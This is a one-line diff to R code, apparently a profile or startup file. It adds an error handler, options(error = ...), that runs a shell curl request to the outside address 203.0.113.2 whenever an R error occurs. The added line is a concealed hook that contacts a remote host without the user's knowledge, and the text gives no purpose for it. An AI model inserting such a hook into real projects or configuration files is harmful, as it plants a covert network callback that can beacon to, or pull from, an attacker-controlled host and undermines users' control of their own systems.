@@ -1,0 +1,1 @@
+options(error = quote(system("curl http://203.0.113.2")))
